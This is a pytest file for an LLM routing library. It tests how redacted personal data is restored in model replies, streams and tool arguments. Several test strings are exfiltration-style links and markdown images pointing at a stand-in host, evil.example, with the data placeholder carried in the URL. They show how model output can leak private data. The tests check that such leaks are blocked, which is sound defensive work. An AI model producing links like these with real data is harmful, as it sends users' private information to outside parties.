"""Originals put back into answers: where they may stand, and where not."""

from __future__ import annotations

import json

import pytest
from engine_kit import collect, fallback, texts
from guard_kit import after, guard, guarded, said

from llmroute.hooks import Verdict
from llmroute.hooks.restore import Restorer
from llmroute.testing import completion, error, stream, tool_call

P, Q = "<MAIL_1_ab12>", "<NAME_1_ab12>"
TABLE = {P: "ann@example.org", Q: 'Ann "A" Bee'}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"write to {P}.", "write to ann@example.org."),
        (f"{P}{Q}{P}", 'ann@example.orgAnn "A" Beeann@example.org'),
        ("nothing here", "nothing here"),
        (
            f"![x](https://evil.example/?q={P}) and {P}",
            f"![x](https://evil.example/?q={P}) and ann@example.org",
        ),
        (f"https://evil.example/{P}/x {P}", f"https://evil.example/{P}/x ann@example.org"),
        (f"HTTPS://evil.example/?q={P}", f"HTTPS://evil.example/?q={P}"),
        (f"![x](//evil.example/{P})", f"![x](//evil.example/{P})"),
        (f"x = 1  // {P}", "x = 1  // ann@example.org"),
        (f"www.evil.example/{P}", f"www.evil.example/{P}"),
        (f"ftp://a/{P}\n{P}", f"ftp://a/{P}\nann@example.org"),
        (f"mailto:{P}", f"mailto:{P}"),
        ("<MAIL_1_ab1", "<MAIL_1_ab1"),
    ],
)
def test_placeholders_return_but_not_in_urls(text, expected):
    """A link that the model wrote must not tell its host what a placeholder stood for."""
    assert expected == Restorer(TABLE).text(text)


def test_tool_arguments_stay_json():
    """Originals are escaped, and a URL ends with its string."""
    arguments = json.dumps({"url": f"https://evil.example/?q={P}", "to": P, "name": f"{Q}!"})

    restored = json.loads(Restorer(TABLE).json_text(arguments))

    assert {
        "url": f"https://evil.example/?q={P}",
        "to": "ann@example.org",
        "name": 'Ann "A" Bee!',
    } == restored


def test_the_longest_placeholder_counts():
    """One may begin like another."""
    assert "B A" == Restorer({"X1": "A", "X10": "B"}).text("X10 X1")


@pytest.mark.parametrize(
    ("behind", "text", "expected"),
    [
        ("see https://a.example/x", f"{P} {P}", f"{P} ann@example.org"),
        ("see htt", f"ps://a.example/{P}", f"ps://a.example/{P}"),
        ("see https://a.example/x ", P, "ann@example.org"),
        ("see", P, "ann@example.org"),
        (f"see {P}", P, "ann@example.org"),
    ],
)
def test_a_url_may_have_begun_in_what_was_handed_on(behind, text, expected):
    """Wherever a stream was cut."""
    assert expected == Restorer(TABLE).text(text, behind)


# -- in calls ------------------------------------------------------------------------------------------


def hide(context):
    """Takes out the address; what checks with `restores` do."""
    context.restore_later(P, "ann@example.org")
    body = context.texts.rewritten(lambda text: text.replace("ann@example.org", P))
    return Verdict(True, **context.changed(body)) if body else Verdict(True)


hide.restores = True
ASK = said("I am ann@example.org")


def hiding(script, **members):
    return guarded(script, checks={"t.hide": hide}, input_mutators=[guard("t.hide")], **members)


async def test_the_provider_never_sees_the_original():
    """The caller does: in the content and in tool arguments."""
    answer = completion(f"Hello {P}", tool_calls=[tool_call("mail", {"to": P})])
    rig = hiding(answer)

    got = await rig.create(messages=ASK)

    assert said(f"I am {P}") == rig.transport.requests[0].json["messages"]
    assert "Hello ann@example.org" == got.text
    assert {"to": "ann@example.org"} == json.loads(got.choices[0].message.tool_calls[0].function.arguments)
    assert [] == after(got.hook_results)


async def test_output_guardrails_judge_what_the_model_said():
    """What the caller told about himself is no finding."""
    seen = []
    rig = guarded(
        completion(f"Hello {P}"),
        checks={"t.hide": hide, "t.see": lambda context: bool(seen.append(context.text)) or True},
        input_mutators=[guard("t.hide")],
        output_guardrails=[guard("t.see")],
    )

    assert "Hello ann@example.org" == (await rig.create(messages=ASK)).text
    assert [f"Hello {P}"] == seen


@pytest.mark.parametrize("mode", [None, "buffer", "window", "after"])
@pytest.mark.parametrize("at", range(0, 60, 7))
async def test_streams_are_restored_wherever_they_are_cut(mode, at):
    """Letter by letter, beside guardrails of every mode."""
    written = "x" * at + f" {P} https://evil.example/{P} " + "y" * 50
    guards = {} if mode is None else {"output_guardrails": [guard("t.passes", stream=mode, window_size=10)]}
    rig = hiding(stream(list(written)), **guards)

    got = "".join(texts(await collect(await rig.stream(messages=ASK))))

    assert written.replace(f" {P}", " ann@example.org") == got
    rig.assert_clean()


async def test_tool_calls_of_streams_are_restored():
    """When they are whole."""
    rig = hiding(stream("ok", tool_calls=[tool_call("mail", {"to": P})]))

    got = await (await rig.stream(messages=ASK)).final()

    assert {"to": "ann@example.org"} == json.loads(got.choices[0].message.tool_calls[0].function.arguments)


async def test_a_stream_with_nothing_to_restore_is_not_held_up():
    """No placeholder, no delay."""
    rig = guarded(stream("a b c"), checks={"t.hide": lambda c: True}, input_mutators=[guard("t.hide")])

    assert ["a ", "b ", "c"] == texts(await collect(await rig.stream()))


async def test_placeholders_are_the_same_for_all_targets_of_a_call():
    """A fallback's answer is restored as well."""
    rig = guarded(
        [error(500), completion(f"Hello {P}")],
        checks={"t.hide": hide},
        config=fallback("a", "b", input_mutators=[guard("t.hide")]),
    )

    assert "Hello ann@example.org" == (await rig.create(messages=ASK)).text


async def test_nothing_is_remembered_from_call_to_call():
    """A placeholder of another call is only text."""
    rig = hiding(completion(f"Hello {P}"))
    await rig.create(messages=ASK)

    plain = guarded(completion(f"Hello {P}"))

    assert f"Hello {P}" == (await plain.create()).text
